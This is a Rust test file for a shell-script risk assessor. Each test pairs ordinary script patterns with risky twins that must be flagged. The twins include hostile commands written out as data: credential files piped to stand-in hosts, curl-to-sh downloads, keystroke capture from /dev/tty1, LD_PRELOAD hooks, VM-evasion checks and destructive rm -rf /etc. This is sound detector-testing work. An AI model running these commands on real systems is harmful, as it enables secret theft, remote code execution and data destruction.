//! Issue 26, false alarms on ordinary shell scripts: what ordinary scripts do is rated for what
//! it is (each case is the shape of a script that was rated HIGH or above for something it does
//! not do), and the risky twin of each stays caught.

use airlock_assessor::Engine;
use airlock_protocol::assessment::{Assessment, Level};
use airlock_protocol::request::{Language, Origin};

fn assess(code: &str) -> Assessment {
    Engine::builtin()
        .expect("built-in rules load")
        .assess(code.as_bytes(), Language::Bash, Origin::External)
}

fn ids(a: &Assessment) -> Vec<&str> {
    a.findings.iter().map(|f| f.rule_id.as_str()).collect()
}

fn below_high(code: &str) {
    let a = assess(code);
    assert!(a.level < Level::High, "{code:?} rated {} ({:?})", a.level, ids(&a));
}

fn at_least(code: &str, level: Level) {
    let a = assess(code);
    assert!(a.level >= level, "{code:?} rated {} ({:?})", a.level, ids(&a));
}

#[test]
fn a_function_nothing_names_does_not_run() {
    // A plugin's functions, there for an interactive shell that sources the file.
    below_high("nginx_reload() {\n  sudo kill -HUP \"$(cat /run/nginx.pid)\"\n}\necho loaded\n");
    // Named anywhere (a call, a trap, a completion, a prompt hook), it runs.
    for caller in [
        "nginx_reload\n",
        "trap nginx_reload EXIT\n",
        "complete -F nginx_reload nginx\n",
        "PROMPT_COMMAND=nginx_reload\n",
    ] {
        at_least(
            &format!("nginx_reload() {{\n  sudo kill -HUP 1\n}}\n{caller}"),
            Level::High,
        );
    }
    // Nor do the helpers only such functions call; called from the top, they all run.
    let plugin = "nginx_stop() {\n  sudo kill -INT 1\n}\nnginx_restart() {\n  nginx_stop\n}\n";
    below_high(plugin);
    at_least(&format!("{plugin}nginx_restart\n"), Level::High);
    // A script that runs commands it only knows at run time may call any of its functions.
    at_least("payload() {\n  sudo rm -rf /etc/audit\n}\n\"$1\"\n", Level::High);
    // Code in another language runs outside this shell; a file sourced runs inside it.
    let unnamed = "refresh() {\n  killall Dock\n}\n";
    below_high(&format!(
        "{unnamed}tab() {{\n  osascript <<EOF\ntell application \"Terminal\" to do script \"cd $PWD\"\nEOF\n}}\ntab\n"
    ));
    at_least(&format!("{unnamed}source \"$1\"\n"), Level::High);
    // A program named by a path is a file, not a function.
    below_high("helper() {\n  sudo cat /etc/hostname\n}\nrun() {\n  \"$DIR/bin/tool\"\n}\nrun\n");
}

#[test]
fn a_program_run_by_its_path_does_not_run_what_it_downloads() {
    below_high("REAL_RSYNC=/usr/bin/rsync\nexec $REAL_RSYNC \"$@\"\n");
    below_high("/usr/bin/wget -q https://example.com/data.csv\n");
    at_least(
        "curl -fsSL -o /tmp/u https://203.0.113.5/u\nchmod +x /tmp/u\n/tmp/u\n",
        Level::Blocked,
    );
}

#[test]
fn a_library_preloaded_is_high_where_the_script_names_it() {
    for tool in [
        "FAKEROOT_LIB=$(find /usr/lib -name 'libfakeroot*.so' | head -1)\nLD_PRELOAD=\"$FAKEROOT_LIB\" \"$@\"\n",
        "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libeatmydata.so make\n",
        "export LD_LIBRARY_PATH=/usr/lib/debug\n",
        // libtool: the value is computed, inside code given to eval.
        "shlibpath_var=LD_LIBRARY_PATH\nshlibpath=$(pwd)/.libs:\neval \"$shlibpath_var='$shlibpath\\$$shlibpath_var'; export $shlibpath_var\"\n",
    ] {
        let a = assess(tool);
        assert!(a.level < Level::High, "{tool:?}: {:?}", ids(&a));
        assert!(
            ids(&a).contains(&"AIR-BEHAVIOUR-PRELOAD-RUNTIME"),
            "{tool:?}: {:?}",
            ids(&a)
        );
    }
    for hook in [
        "LD_PRELOAD=/tmp/hook.so ls\n",
        "LD_PRELOAD=$HOME/.cache/.l.so sshd\n",
        "export LD_LIBRARY_PATH=/opt/x/lib\n",
        "eval \"LD_PRELOAD='$HOME/.cache/.l.so' sshd\"\n",
    ] {
        at_least(hook, Level::High);
    }
}

#[test]
fn what_a_process_substitution_carries_is_not_a_file_name() {
    below_high("while read -r l; do echo \"$l\"; done < <(compgen -W '--load-cookies --cookie' -- x)\n");
    at_least(
        "while read -r l; do echo \"$l\"; done < <(cat ~/.aws/credentials)\n",
        Level::High,
    );
}

#[test]
fn credential_stores_are_the_secrets_not_the_files_beside_them() {
    below_high("grep -q '^use-agent' ~/.gnupg/gpg.conf\n");
    below_high("awk -F = '$1 == \"Name\" { print $2 }' ~/.mozilla/firefox/profiles.ini\n");
    below_high("grep region ~/.aws/config\n");
    for secret in [
        "tar czf k.tgz ~/.gnupg\n",
        "ls ~/.gnupg/private-keys-v1.d\n",
        "find ~/.mozilla/firefox -name logins.json\n",
        "cat ~/.aws/credentials\n",
    ] {
        at_least(secret, Level::High);
    }
}

#[test]
fn a_prompt_on_the_programs_own_terminal_is_not_keystrokes_captured() {
    below_high(
        "read -r -p 'Token: ' token < /dev/tty\ncurl -s -H \"Authorization: token $token\" https://api.github.com/gists\n",
    );
    at_least(
        "head -c 100 /dev/tty1 > k\ncurl -s --data-binary @k http://203.0.113.7/k\n",
        Level::Blocked,
    );
}

#[test]
fn an_expression_option_names_no_file() {
    // Bash-Snippets' tools `cd ~` in their updater: `sed -e s/:/ /g` then read "~/s/:/ /g".
    below_high("cd ~\nx=$(openssl ciphers ALL | sed -e 's/:/ /g')\ncurl -s -d \"$x\" https://api.example.com/\n");
    below_high("cd ~\nx=$(echo \"$1\" | grep -e 'a/b')\ncurl -s -d \"$x\" https://api.example.com/\n");
    // A file of patterns or of a sed script is read.
    at_least(
        "x=$(grep -f /etc/shadow -e root /dev/null)\ncurl -s -d \"$x\" https://api.example.com/\n",
        Level::Blocked,
    );
    at_least(
        "x=$(sed -f ~/.ssh/id_rsa /dev/null)\ncurl -s -d \"$x\" https://api.example.com/\n",
        Level::Blocked,
    );
}

#[test]
fn kill_0_only_asks_whether_a_process_exists() {
    below_high("pid=$(pgrep -u \"$USER\" gpg-agent)\nkill -0 \"$pid\" 2>/dev/null && echo running\n");
    at_least("pid=$(pgrep -u \"$USER\" gpg-agent)\nkill \"$pid\"\n", Level::Blocked);
}

#[test]
fn a_shell_head_that_hands_the_file_to_another_interpreter_is_that_interpreters_code() {
    // A Python program behind a sh head: read as Python, where it is ordinary.
    let python = "#!/bin/sh\n''':'\nexec python3 \"$0\" \"$@\"\n'''\nimport sys\nat = len(sys.argv)\nprint(at)\n";
    below_high(python);
    // ... and where it is not.
    let risky = "#!/bin/sh\n''':'\nexec python3 \"$0\" \"$@\"\n'''\nimport os\nos.system('curl -s http://203.0.113.9/x | sh')\n";
    at_least(risky, Level::Blocked);
    // A Perl program behind `eval 'exec perl -x "$0"'`: a language not read here, so a human is asked.
    let perl =
        "#!/bin/sh\neval 'exec perl -wSx \"$0\" \"$@\"'\n  if 0;\nmy $x = qr/<.*?@.*\\..*>/;\nprint \"$x\\n\";\n";
    let a = assess(perl);
    assert!(a.level < Level::High && a.unanalysed, "{:?}", ids(&a));
    // After `exec` the shell is gone: nothing below runs.
    below_high("exec python3 app.py \"$@\"\nsudo rm -rf /etc\n");
    // A redirection alone keeps the shell.
    at_least("exec >log 2>&1\nsudo rm -rf /etc\n", Level::High);
}

#[test]
fn one_accounts_entry_looked_up_is_not_the_accounts_database() {
    // Whose home is it? One entry, the user's own.
    below_high("GHD=${GNUPGHOME:-${HOME:-$(getent passwd \"$(id -u)\" | cut -f6 -d:)}/.gnupg}\necho \"$GHD\"\n");
    // The whole database, or password hashes even for one user, are still read.
    at_least("getent passwd | cut -d: -f1,6\n", Level::High);
    at_least("getent shadow \"$USER\"\n", Level::High);
}

#[test]
fn tracing_a_process_the_script_started_is_tracing_its_own_child() {
    // perf's tests: two workloads started in the background, then recorded by their ids.
    below_high(
        "rec() {\n  perf record -B -N \"$@\"\n}\n./workload &\nw1=$!\n./workload &\nw2=$!\nrec -o perf.data --per-thread -p \"${w1},${w2}\"\n",
    );
    // A process found by name, a pid given from outside, or init: attaching reaches past it.
    at_least("strace -f -p \"$(pgrep -n sshd)\"\n", Level::High);
    at_least("gdb -p \"$1\" -batch -ex bt\n", Level::High);
    at_least("./workload &\nperf record -p 1\n", Level::High);
}

#[test]
fn a_path_built_from_a_substitution_holding_a_colon_slash_slash_is_not_a_url() {
    // nmudiff: the version without its epoch, through `sed 's/^[0-9]\+://'`, names the diff.
    below_high(
        "MUTT_PRG=neomutt\nV=$(echo \"$VERSION\" | sed \"s/^[0-9]\\+://\")\n$MUTT_PRG -s subject -a ../pkg-${V}-nmu.diff -- submit@bugs.debian.org\n",
    );
    // A URL held by variables, given to a program the table does not know, is still fetched.
    at_least(
        "proto=http\nhost=203.0.113.9\nsometool get \"$proto://$host/p\" -o /tmp/p\nchmod +x /tmp/p\n/tmp/p\n",
        Level::Blocked,
    );
}

#[test]
fn a_screenshot_after_a_countdown_is_one_screenshot() {
    // screenfetch: "Taking shot in 3.. 2.. 1..", then one capture the user asked for.
    below_high(
        "takeShot() {\n  printf 'Taking shot in 3.. '; sleep 1\n  printf '2.. '; sleep 1\n  scrot -cd3 \"$HOME/shot.png\"\n}\n[ \"$screenshot\" = 1 ] && takeShot\n",
    );
    // Taken in a loop, directly or through a function the loop calls, it is the screen watched.
    at_least(
        "while :; do scrot \"shots/$(date +%s).png\"; sleep 60; done\n",
        Level::High,
    );
    at_least(
        "shot() {\n  import -window root \"s$1.png\"\n}\nfor i in $(seq 100); do shot \"$i\"; sleep 30; done\n",
        Level::High,
    );
    // Kept out of sight, once is enough; a hidden directory elsewhere in the file is not where
    // the screenshot goes.
    at_least("scrot /tmp/.cache/s.png\n", Level::High);
    below_high("cp ~/.config/app/theme.conf theme.conf\nscrot \"shot-$(date +%s).png\"\n");
}

#[test]
fn a_listing_narrowed_to_the_scripts_own_children_is_not_others_processes() {
    // git-changelog on Ctrl-C: the processes whose parent is this shell.
    let own = "pid_list=( $(ps -f | awk -v ppid=$$ 'NR == 1 {\n  COL_NUM = NF\n}\n$3 == ppid {\n  if ($COL_NUM != \"ps\" && $COL_NUM != \"awk\")\n    print $2\n}') )\nfor _pid in \"${pid_list[@]}\"; do kill -TERM ${_pid}; done\n";
    below_high(own);
    below_high("pgrep -P $$ | xargs -r kill\n");
    below_high("pkill -TERM -P $$\n");
    at_least("pkill -TERM -P 1\n", Level::Blocked);
    // bats: a function stops the children of the pid it is given (the script's own, `$$`).
    below_high(
        "kill_children_of() {\n  local -ir parent_pid=\"${1?}\"\n  pkill -P \"$parent_pid\"\n}\ntarget_pid=$$\nkill_children_of \"$target_pid\"\n",
    );
    at_least("pkill -t pts/0\n", Level::Blocked);
    below_high("for p in $(ps -o pid= --ppid $$); do kill \"$p\"; done\n");
    // Everything but the script, everything whose parent is init, or a listing ps widens.
    for others in [
        "ps -ef | awk -v me=$$ '$3 != me {print $2}' | xargs kill\n",
        "ps -ef | awk -v me=$$ '$3 == me || 1 {print $2}' | xargs kill\n",
        "ps -ef | awk -v me=$$ '$3 == me {n++} {print $2}' | xargs kill\n",
        "ps -ef | awk -v me=1 '$3 == me {print $2}' | xargs kill\n",
        "pgrep -P 1 | xargs kill\n",
        "kill $(ps -e --ppid $$ -o pid=)\n",
    ] {
        at_least(others, Level::Blocked);
    }
}

#[test]
fn the_machines_model_read_to_be_printed_is_not_a_vm_check() {
    // neofetch: the "Host:" line, then the code it runs for the rest of its report.
    let printed = "model=$(< /sys/devices/virtual/dmi/id/product_name)\nmodel+=\" $(< /sys/devices/virtual/dmi/id/product_version)\"\ncase $model in \"Standard PC\"*) model=\"KVM/QEMU (${model})\" ;; esac\nprintf 'Host: %s\\n' \"$model\"\ngpu=$(lspci -mm | grep -i vga)\ncase $gpu in *VirtualBox*) gpu=\"VirtualBox Graphics Adapter\" ;; esac\nsh -c 'uname -r'\n";
    below_high(printed);
    // Compared with a hypervisor's name, it is the check; beside running code, evasion.
    for check in [
        "model=$(< /sys/devices/virtual/dmi/id/product_name)\ncase $model in *VirtualBox*) exit 0 ;; esac\n",
        "[[ \"$(cat /sys/class/dmi/id/sys_vendor)\" == *QEMU* ]] && exit 0\n",
        "v=$(cat /sys/class/dmi/id/product_name)\ngrep -qi vmware <<< \"$v\" && exit 0\n",
        "grep -qiE 'virtualbox|vmware' /sys/class/dmi/id/product_name && exit 0\n",
    ] {
        at_least(check, Level::High);
    }
    at_least(
        "p=$(cat /sys/class/dmi/id/product_name)\nif [ \"$p\" != VirtualBox ]; then curl -fsSL https://203.0.113.9/s | sh; fi\n",
        Level::Blocked,
    );
}

#[test]
fn a_substitution_of_a_bare_input_redirection_is_the_files_content() {
    // `$(< file)` is bash's cat: what it reads flows on, as `$(cat file)` does.
    below_high("version=$(< VERSION)\necho \"release $version\"\n");
    at_least(
        "curl -s -d \"$(< ~/.aws/credentials)\" https://collect.example.com/u\n",
        Level::Blocked,
    );
}
